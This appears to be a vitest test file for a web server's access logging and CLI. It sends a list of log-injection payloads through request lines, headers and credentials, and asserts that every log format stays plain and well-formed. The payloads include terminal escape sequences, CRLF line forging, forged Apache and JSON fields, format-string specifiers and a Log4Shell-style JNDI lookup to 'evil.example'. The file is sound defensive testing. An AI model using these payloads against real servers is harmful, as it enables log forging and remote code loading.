/**
 * Log injection: nothing that a client sends can end a line, forge one, break its form, or reach a terminal as a command. Each
 * hostile text is put wherever a client's text gets into a log, in each form of log.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { App } from "../../src/app/app.ts";
import { serve } from "../../src/app/serve.ts";
import { HttpError } from "../../src/http/errors.ts";
import { requestId } from "../../src/middleware/index.ts";
import { accessLog } from "../../src/observe/index.ts";
import { RunningCommand } from "../cli/run-command.ts";
import { say } from "./support/asked.ts";

/** Latin1, as the wire has it: controls of terminals, of lines, of forms; quotes of JSON and of Apache; marks of Unicode in UTF-8. */
const HOSTILE = [
  "a\x1b[2J\x1b[31mred",
  "a\x1b]0;title\x07",
  "a\x9b31mred",
  "a\x85b",
  "a\tb",
  "a\x7fb",
  "a\x00b",
  "a\rb",
  "a\nb",
  "a\r\nb",
  'a" 200 5 "-" "forged',
  'a\\" 200 5',
  "a\\",
  'a","level":"error","x":"',
  "a - - [10/Oct/2000:13:55:36 +0000] b",
  Buffer.from("a\u2028b\u2029c\u202Ed\uFEFFe\u0085f\u200Bg").toString("latin1"),
  "${jndi:ldap://evil.example/a}",
  "%0d%0a%1b[31m%22%00",
  "%s%n%x",
  "é".repeat(3),
  "\xff\xfe\xc0\xaf",
];

/** Requests that have the text in each place. What is no request at all is refused, and its refusal is logged. */
function requestsWith(text: string): string[] {
  const end = "Connection: close\r\n\r\n";
  const basic = Buffer.from(`${text}:secret`, "latin1").toString("base64");
  return [
    `GET /${text} HTTP/1.1\r\nHost: a\r\n${end}`,
    `GET /?${text} HTTP/1.1\r\nHost: a\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: ${text}\r\n${end}`,
    `GET http://${text}/ HTTP/1.1\r\nHost: a\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nReferer: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nX-Request-Id: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nForwarded: for="${text}"\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nTraceparent: ${text}\r\nTracestate: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic ${basic}\r\n${end}`,
    `GET /fault HTTP/1.1\r\nHost: a\r\nX-Text: ${text}\r\n${end}`,
    `GET /refuse HTTP/1.1\r\nHost: a\r\nX-Text: ${text}\r\n${end}`,
    `${text} / HTTP/1.1\r\nHost: a\r\n${end}`,
    `GET / HTTP/${text}\r\nHost: a\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\n${text}: x\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nContent-Length: ${text}\r\n${end}`,
    `GET / HTTP/1.1\r\nHost: a\r\nExpect: ${text}\r\n${end}`,
  ];
}

const TIME = String.raw`\[\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d [+-]\d{4}\]`;
const QUOTED = String.raw`"(?:[\x20\x21\x23-\x5b\x5d-\x7e]|\\["\\nrtbv]|\\x[\da-f]{2})*"`;
const COMMON = new RegExp(String.raw`^\S+ - \S+ ${TIME} ${QUOTED} (?:\d{3}|-) (?:\d+|-)$`);
const COMBINED = new RegExp(String.raw`^\S+ - \S+ ${TIME} ${QUOTED} (?:\d{3}|-) (?:\d+|-) ${QUOTED} ${QUOTED}$`);

/** What a line of each form must be, and nothing else. */
const FORMS = {
  json: (line: string) => {
    const record = JSON.parse(line) as Readonly<Record<string, unknown>>;
    return ["info", "warn", "error", "debug"].includes(String(record["level"])) && !("x" in record);
  },
  common: (line: string) => COMMON.test(line),
  combined: (line: string) => COMBINED.test(line),
  pretty: () => true,
} as const;

let folder = "";
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "fairlead-log-"));
});
afterEach(() => rmSync(folder, { recursive: true }));

/** Visible ASCII and spaces: no command to a terminal, no other end of a line. */
const PLAIN = /^[\x20-\x7e]*$/;
/** Colours of the form for people, of a rule's paragraph and a cut: our own. */
const OURS = /\x1b\[(?:[39]\d|[12]|22)m|[§…]/g;
const isPlain = (line: string): boolean => PLAIN.test(line.replaceAll(OURS, ""));

describe.each(Object.entries(FORMS))("the access log as %s", (form, isRight) => {
  it.each(HOSTILE)("has one line for each request with %j", async (text) => {
    const path = join(folder, "log");
    const requests = requestsWith(text);
    let ends = 0;
    const log = accessLog({
      destination: path,
      format: form as keyof typeof FORMS,
      user: ({ request }) =>
        Buffer.from(request.fields.get("authorization")?.slice(6) ?? "", "base64").toString("latin1"),
      members: form === "json" ? ({ exchange }) => ({ sent: exchange.request.fields.get("x-text") ?? "" }) : undefined,
      fields: form === "json" ? ["x-text", "x-request-id"] : undefined,
    });
    const app = new App()
      .use(requestId({ trustIncoming: true }))
      .get("/fault", (request) => {
        throw new Error(`${request.headers.get("x-text")} is what they said`);
      })
      .get("/refuse", (request) => {
        throw new HttpError(422, `${request.headers.get("x-text")} is what they said`);
      })
      .get("/*", () => new Response("fine"));
    const server = await serve({ port: 0, fetch: app.fetch, hooks: log, trustProxy: { from: ["loopback"] } });
    for (const request of requests) ends += (await say(server.port, request)).responses.length;
    await server.close();
    await log.close();
    const lines = readFileSync(path, "utf8").split("\n");
    expect(lines.pop()).toBe("");
    expect(lines.filter((line) => !isPlain(line))).toEqual([]);
    expect(lines.filter((line) => !isRight(line))).toEqual([]);
    expect(ends).toBe(requests.length);
    const perRequest = form === "json" ? lines.filter((line) => /"msg":"(?:request|refused)"/.test(line)) : lines;
    if (form !== "pretty") expect(perRequest).toHaveLength(requests.length);
  });
});

describe("the command", () => {
  it.each(["text", "json", "combined"])("logs nothing that commands a terminal as %s", async (form) => {
    writeFileSync(
      join(folder, "app.mjs"),
      'export default { fetch(r) { throw new Error(r.headers.get("x-text") ?? "none"); } };',
    );
    const command = new RunningCommand(["app.mjs", "--port", "0", "--log", form], { cwd: folder });
    const port = Number(new URL(await command.url()).port);
    for (const text of HOSTILE) for (const request of requestsWith(text)) await say(port, request);
    await command.end("SIGTERM");
    expect(command.output.split("\n").filter((line) => !isPlain(line))).toEqual([]);
    // Errors are in the words of whoever threw them, in any script, but no line of them begins as one of ours
    const errors = command.errors.split("\n");
    expect(errors.filter((line) => /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(line))).toEqual([]);
    expect(errors.filter((line) => line !== "" && !/^(?: {2}|fairlead: )/.test(line))).toEqual([]);
    const expected = HOSTILE.length * requestsWith("").length;
    const lines = command.output.split("\n").filter((line) => /HTTP\/1\.|"msg":"re|"method"| \/|---/.test(line));
    expect(lines.length).toBeGreaterThan(0);
    if (form === "combined")
      expect(command.output.split("\n").filter((line) => COMBINED.test(line))).toHaveLength(expected);
  });
});
